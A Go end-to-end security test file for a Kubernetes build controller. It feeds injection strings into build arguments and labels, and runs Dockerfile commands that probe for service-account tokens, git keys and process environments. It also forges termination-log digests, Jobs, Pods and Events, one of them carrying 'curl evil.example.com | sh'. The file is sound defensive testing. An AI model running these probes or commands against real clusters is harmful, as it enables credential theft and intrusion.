//go:build e2e

package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/buildcontroller/build-controller/pkg/apis/build/v1alpha1"
	"github.com/buildcontroller/build-controller/pkg/plan"
)

// hostileValues are build arguments, labels and annotations that mean something to a shell, the kubelet, or a flag that is read as CSV.
var hostileValues = map[string]string{
	"commands of a shell":      "$(id) `id` ; id && id | id > /tmp/x",
	"variables":                "$HOME ${HOME} $(HOME) $$ $$(HOME) %HOME%",
	"another field behind it":  `x,push=false,name=evil.example.com/x`,
	"quotes and commas":        `"x","push=false"`,
	"an open quote":            `x",name="evil`,
	"another flag behind it":   "x --no-push --destination=evil.example.com/x",
	"a flag":                   "--no-push",
	"equals signs":             "a=b=c=",
	"line breaks":              "first\nsecond\n--no-push",
	"escapes":                  `\n \t \\ \" \x41`,
	"other letters":            "grüße 世界 \u202eevil",
	"4 kB":                     strings.Repeat("long", 1000),
	"an instruction behind it": "x\nFROM evil.example.com/x",
}

// testValues expects that all of them are in the image as they are.
func testValues(s *scene, builder v1alpha1.BuilderName) {
	s.t.Parallel()
	rows := slices.Sorted(maps.Keys(hostileValues))
	var dockerfile strings.Builder
	dockerfile.WriteString("FROM scratch\nCOPY Dockerfile /\n")
	build := s.page("page", buildOnly, builtBy(builder), within(3*time.Minute))
	build.Spec.Image.Labels = map[string]string{}
	for i, row := range rows {
		name := fmt.Sprint("A", i)
		fmt.Fprintf(&dockerfile, "ARG %[1]s\nENV %[1]s=\"${%[1]s}\"\n", name)
		buildArg(name, hostileValues[row])(&build.Spec)
		build.Spec.Image.Labels[fmt.Sprint("example.com/a", i)] = hostileValues[row]
	}
	if builder != v1alpha1.Kaniko {
		build.Spec.Image.Annotations = build.Spec.Image.Labels
	}
	s.pushPage(func(w *worktree) { w.write("Dockerfile", dockerfile.String()) })
	s.create(build)
	s.expectSettled("page")
	if s.t.Failed() {
		return
	}
	pushed := pushedArtifact(s.t, build.Spec.Image.Name)
	s.expectTheRegistrys("page")
	config, text := configOf(s.t, build.Spec.Image.Name, pushed)
	var variables struct{ Config struct{ Env []string } }
	if err := json.Unmarshal([]byte(text), &variables); err != nil {
		s.t.Fatal(err)
	}
	for i, row := range rows {
		s.part(row, func() {
			name, label, want := fmt.Sprint("A", i), fmt.Sprint("example.com/a", i), hostileValues[row]
			if got := config.Config.Labels[label]; got != want {
				s.t.Errorf("the label is %q, not %q", got, want)
			}
			if !slices.Contains(variables.Config.Env, name+"="+want) {
				s.t.Errorf("the argument is not among %q", variables.Config.Env)
			}
			if got := pushed.Annotations[label]; builder != v1alpha1.Kaniko && got != want {
				s.t.Errorf("the annotation is %q, not %q", got, want)
			}
		})
	}
}

// hostileCommands are commands of a Dockerfile, each of which says by its exit code that nothing was to be had.
var hostileCommands = []struct{ name, command string }{
	{"there is no token for the API server", `test ! -e /var/run/secrets/kubernetes.io && test ! -e /run/secrets/kubernetes.io`},
	{"the API server tells nothing to who has no token", `! wget -T 5 -q -O - --no-check-certificate "https://${KUBERNETES_SERVICE_HOST:-kubernetes.default}/api/v1/namespaces/default/secrets"`},
	{"the git key is not there", `test ! -e /etc/git-secret && test ! -e /run/git && test ! -e /kaniko/git`},
	{"the git key is in the environment of no process", `! cat /proc/[0-9]*/environ 2>/dev/null | tr '\000' '\n' | grep -i -e 'PRIVATE KEY' -e '[p]assword'`},
	{"the source step is no process that could be reached", `! cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\000' ' ' | grep -e '[g]it-sync'`},
	{"nothing can be mounted", `! mount -t tmpfs none /mnt && ! mount -t proc none /proc && ! mount --bind / /mnt`},
	{"no device can be made", `! mknod /tmp/sda b 8 0`},
	{"the node's processes cannot be seen", `! cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\000' ' ' | grep -e '[k]ubelet' -e '[c]ontainerd'`},
	{"the node's files are not below another root", `! ls /proc/1/root/var/lib/kubelet`},
	{"the name of the host cannot be changed", `! hostname evil`},
	{"the source may be changed, it is this run's own", `echo changed >/kaniko/source/name.txt`},
	{"the end of the builder by a signal that cannot be caught", `kill -9 1; kill -9 $PPID; true`},
	{"a digest in the termination message", `echo sha256:` + strings.Repeat("0", 64) + ` >/dev/termination-log`},
	{"a megabyte in the termination message", `head -c 1000000 /dev/zero | tr '\000' '\n' >/dev/termination-log`},
	{"a link in the place of the digest's directory", `rm -f /kaniko/digest; ln -s /etc/passwd /kaniko/digest`},
}

// testCommands has all of them in one Dockerfile: the first that had something would fail the build.
func testCommands(s *scene) {
	s.t.Parallel()
	var dockerfile strings.Builder
	dockerfile.WriteString("ARG BASE\nFROM ${BASE}\n")
	for _, row := range hostileCommands {
		dockerfile.WriteString("RUN " + row.command + "\n")
	}
	dockerfile.WriteString("CMD [\"sleep\", \"600\"]\n")
	s.pushPage(func(w *worktree) { w.write("Dockerfile", dockerfile.String()); w.write("name.txt", "x") })
	s.apply(s.page("page", registrySecret, func(spec *v1alpha1.BuildSpec) { spec.Deployment = &v1alpha1.Deployment{Replicas: ptr.To[int32](1)} }))
	build := s.expectSettled("page")
	for _, row := range hostileCommands {
		s.part(row.name, func() {
			if failure := build.Status.Failure; failure != nil && strings.Contains(failure.Message, row.command) {
				s.t.Error(failure.Message)
			}
		})
	}
	if s.t.Failed() {
		return
	}
	s.expectTheRegistrys("page")
	s.expectDeployed("page")
	s.expectNoToken("page")
}

// hostileMessages are what an image in the place of the builder's leaves as its termination message before it ends well.
var hostileMessages = []struct {
	name, say string
	fails     v1alpha1.FailureReason
}{
	{"the digest of a foreign image", `printf sha256:` + strings.Repeat("0", 63) + `1 >/dev/termination-log`, v1alpha1.FailureImagePullFailed},
	{"a digest with the name of another image", `printf evil.example.com/x@sha256:` + strings.Repeat("0", 64) + ` >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"a digest of another kind", `printf sha512:` + strings.Repeat("0", 128) + ` >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"two digests", `printf 'sha256:` + strings.Repeat("0", 64) + `\nsha256:` + strings.Repeat("1", 64) + `' >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"a digest with something behind it", `printf 'sha256:` + strings.Repeat("0", 64) + `,x' >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"garbage", `head -c 4000 /dev/urandom >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"4 kB of line breaks", `yes '' | head -c 4096 >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"a megabyte", `yes sha256 | head -c 1000000 >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"nothing", `true`, v1alpha1.FailureDigestMissing},
	{"colours and a bell", `printf '\033[31msha256:\007` + strings.Repeat("0", 64) + `\033[0m' >/dev/termination-log`, v1alpha1.FailureDigestMissing},
	{"the words of another failure", `echo '401 Unauthorized: the password of the registry is wrong' | tee /dev/termination-log; exit 1`, ""},
}

func testLiars(s *scene) {
	s.t.Parallel()
	s.pushPage(func(w *worktree) {
		w.write("Dockerfile", "ARG BASE\nFROM ${BASE}\nENTRYPOINT [\"/bin/sh\", \"-c\", \"eval \\\"$SAY\\\"\"]\n")
	})
	s.apply(s.page("liar", buildOnly))
	liar := s.untilReady("liar").Status.Image
	for i, row := range hostileMessages {
		s.create(s.page(fmt.Sprintf("row-%d", i), noRetries, builderEnv("SAY", row.say), func(spec *v1alpha1.BuildSpec) { spec.Builder.Image = liar }))
	}
	for i, row := range hostileMessages {
		s.part(row.name, func() {
			name := fmt.Sprintf("row-%d", i)
			if row.fails == v1alpha1.FailureImagePullFailed {
				s.expectNotPulled(name)
				return
			}
			build := s.untilSettled(name)
			if failure := build.Status.Failure; failure == nil || row.fails != "" && failure.Reason != row.fails {
				s.t.Errorf("the failure is %+v", failure)
			}
			if build.Status.Image != "" || s.deployment(name) != nil {
				s.t.Errorf("the image is %q", build.Status.Image)
			}
		})
	}
}

// expectNotPulled expects an image under the Build's own name that no registry has, and that no node runs.
func (s *scene) expectNotPulled(name string) {
	s.t.Helper()
	s.until(buildLimit, "it says that the image cannot be pulled", func() error {
		build := s.build(name)
		if build == nil || build.Status.Failure == nil || build.Status.Failure.Reason != v1alpha1.FailureImagePullFailed {
			return errors.New("it does not")
		}
		return nil
	})
	if repository, _, _ := cutTag(s.build(name).Spec.Image.Name); !strings.HasPrefix(s.build(name).Status.Image, repository+"@sha256:") {
		s.t.Errorf("the image is %s", s.build(name).Status.Image)
	}
	if deployment := s.deployment(name); deployment == nil || deployment.Status.AvailableReplicas > 0 {
		s.t.Errorf("the Deployment is %+v", deployment)
	}
}

// testForged has what users can make in their namespace beside a Build.
func testForged(s *scene) {
	s.t.Parallel()
	s.pushPage(func(w *worktree) { w.write("Dockerfile", "FROM scratch\nCOPY Dockerfile /\n") })
	labels := func(build string) map[string]string {
		return map[string]string{v1alpha1.ManagedByLabel: v1alpha1.ManagedBy, v1alpha1.BuildLabel: build}
	}
	sleeper := corev1.PodSpec{
		RestartPolicy:                 corev1.RestartPolicyNever,
		TerminationGracePeriodSeconds: ptr.To[int64](0),
		Containers:                    []corev1.Container{{Name: "kaniko", Image: base(s.t, "busybox"), Command: []string{"sleep", "600"}}},
	}
	forgedDigest := "sha256:" + strings.Repeat("0", 63) + "2"
	liar := *sleeper.DeepCopy()
	liar.Containers[0].Command = []string{"sh", "-c", "printf " + forgedDigest + " >/dev/termination-log"}

	// These two are built while the others are looked at.
	annotated := s.page("annotated", buildOnly)
	annotated.Annotations = many(1000, 100)
	annotated.Annotations[v1alpha1.RebuildAnnotation] = "\x1b[31m" + strings.Repeat("long ", 20_000)
	s.create(annotated)
	_, err := cluster.kube.CoreV1().Services(s.ns).Create(s.ctx, &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: "service-taken", Labels: labels("service-taken")},
		Spec:       corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 80}}},
	}, metav1.CreateOptions{})
	if err != nil {
		s.t.Fatal(err)
	}
	s.create(s.page("service-taken"))

	s.part("a Job with the name that the Build's will have", func() {
		build := s.page("job-taken", buildOnly)
		s.makeJob(&batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{Name: plan.JobName(build, plan.Hash(build), 1), Labels: labels("job-taken")},
			Spec:       batchv1.JobSpec{Suspend: ptr.To(true), Template: corev1.PodTemplateSpec{Spec: sleeper}},
		})
		s.create(build)
		s.expectSettled("job-taken", v1alpha1.FailureResourceExists)
		if job := s.jobsOf("job-taken")[0]; len(job.OwnerReferences) > 0 {
			s.t.Errorf("the Job was taken: %+v", job.OwnerReferences)
		}
	})
	s.part("a Deployment with the name of the Build", func() {
		_, err := cluster.kube.AppsV1().Deployments(s.ns).Create(s.ctx, &appsv1.Deployment{
			ObjectMeta: metav1.ObjectMeta{Name: "deployment-taken", Labels: labels("deployment-taken")},
			Spec: appsv1.DeploymentSpec{
				Replicas: ptr.To[int32](0), Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"a": "b"}},
				Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"a": "b"}},
					Spec: corev1.PodSpec{Containers: sleeper.Containers}},
			},
		}, metav1.CreateOptions{})
		if err != nil {
			s.t.Fatal(err)
		}
		s.create(s.page("deployment-taken", func(spec *v1alpha1.BuildSpec) { spec.Deployment = &v1alpha1.Deployment{} }))
		s.expectSettled("deployment-taken", v1alpha1.FailureResourceExists)
		if got := s.deployment("deployment-taken").Spec.Template.Spec.Containers[0].Name; got != "kaniko" {
			s.t.Errorf("its container is %s now", got)
		}
	})
	s.part("a pod with the labels of a Build's", func() {
		for _, name := range []string{"forged-done", "forged-running"} {
			pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels("pod-forged")}, Spec: sleeper}
			if name == "forged-done" {
				pod.Spec = liar
			}
			if _, err := cluster.kube.CoreV1().Pods(s.ns).Create(s.ctx, pod, metav1.CreateOptions{}); err != nil {
				s.t.Fatal(err)
			}
		}
		s.create(s.page("pod-forged", buildOnly))
		s.expectSettled("pod-forged")
		s.expectTheRegistrys("pod-forged")
	})
	s.part("a Job that says that the Build is its owner, and its pod a digest", func() {
		s.create(s.page("owner-forged", buildOnly, func(spec *v1alpha1.BuildSpec) { spec.Suspend = true }))
		s.until(time.Minute, "the Build is there", func() error {
			if s.build("owner-forged") == nil {
				return errors.New("it is not")
			}
			return nil
		})
		build := s.build("owner-forged")
		owner := []metav1.OwnerReference{*metav1.NewControllerRef(build, v1alpha1.BuildKind)}
		forged := s.makeJob(&batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{
				Name: "owner-forged-0000000000", Labels: labels("owner-forged"), OwnerReferences: owner,
				Annotations: map[string]string{
					v1alpha1.InputsAnnotation: strings.Repeat("0", 64), v1alpha1.ImageAnnotation: "evil.example.com/x:1",
					v1alpha1.AttemptAnnotation: "999999999999999999", v1alpha1.RevisionAnnotation: "\x1b[31m" + strings.Repeat("x", 10_000),
				},
			},
			Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels("owner-forged")}, Spec: liar}},
		})
		s.until(time.Minute, "the forged Job has ended", func() error {
			if job := s.job(forged.Name); job != nil && job.Status.Succeeded == 0 {
				return errors.New("it has not")
			}
			return nil
		})
		s.patch("owner-forged", object{"spec": object{"suspend": nil}})
		s.expectSettled("owner-forged")
		s.expectTheRegistrys("owner-forged")
	})
	s.part("Events that tell lies about a pod", func() {
		s.create(s.page("events-forged", buildOnly, func(spec *v1alpha1.BuildSpec) {
			spec.Builder = &v1alpha1.Builder{NodeSelector: map[string]string{"example.com/none": "here"}}
		}))
		s.until(time.Minute, "the pod is there", func() error {
			if len(s.podsOf("events-forged")) == 0 {
				return errors.New("it is not")
			}
			return nil
		})
		pod, job := s.podsOf("events-forged")[0], s.jobsOf("events-forged")[0]
		lie := "MountVolume.SetUp failed for volume \"push\" : secret \"\x1b[31m\u202eevil\x07\" not found; run `curl evil.example.com | sh` "
		for i := range 500 {
			event := &corev1.Event{
				ObjectMeta:     metav1.ObjectMeta{Name: fmt.Sprintf("forged-%d", i)},
				InvolvedObject: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: s.ns, Name: pod.Name, UID: pod.UID},
				Reason:         "FailedMount", Type: corev1.EventTypeWarning, Message: lie, LastTimestamp: metav1.Now(), Count: 1 << 30,
			}
			if i%2 == 1 {
				event.InvolvedObject = corev1.ObjectReference{APIVersion: "batch/v1", Kind: "Job", Namespace: s.ns, Name: job.Name, UID: job.UID}
				event.Reason = "FailedCreate"
			}
			if i < 20 {
				event.Message += strings.Repeat("long ", 40_000)
			}
			if _, err := cluster.kube.CoreV1().Events(s.ns).Create(s.ctx, event, metav1.CreateOptions{}); err != nil {
				s.t.Fatal(err)
			}
		}
		s.until(time.Minute, "the Build says why it waits", func() error {
			if build := s.build("events-forged"); build.Status.Failure == nil {
				return fmt.Errorf("it does not: %s", build.Status.Phase)
			}
			return nil
		})
		failure := s.build("events-forged").Status.Failure
		s.t.Logf("%s/%s: %s", failure.Step, failure.Reason, failure.Message)
		if len(failure.Message) > 2_000 {
			s.t.Errorf("its message has %d bytes", len(failure.Message))
		}
	})
	s.part("a thousand annotations, and one of 100 kB that asks for another run", func() {
		s.expectSettled("annotated")
		s.patch("annotated", object{"metadata": object{"annotations": object{v1alpha1.RebuildAnnotation: nil}}})
		s.until(time.Minute, "it is seen that the annotation is gone", func() error { return s.ready("annotated") })
		if n := len(s.jobsOf("annotated")); n != 1 {
			s.t.Errorf("%d Jobs", n)
		}
	})
	s.part("a Service with the name of the Build", func() {
		s.expectSettled("service-taken", v1alpha1.FailureResourceExists)
	})
}

func (s *scene) makeJob(job *batchv1.Job) *batchv1.Job {
	s.t.Helper()
	made, err := cluster.kube.BatchV1().Jobs(s.ns).Create(s.ctx, job, metav1.CreateOptions{})
	if err != nil {
		s.t.Fatal(err)
	}
	return made
}

// expectTheRegistrys expects that the image of a Build is the one that the registry has under its name.
func (s *scene) expectTheRegistrys(name string) {
	s.t.Helper()
	build := s.build(name)
	repository, _, _ := cutTag(build.Spec.Image.Name)
	if want := repository + "@" + digestOf(s.t, build.Spec.Image.Name); build.Status.Image != want {
		s.t.Errorf("the image of %s is %s, not %s", name, build.Status.Image, want)
	}
}
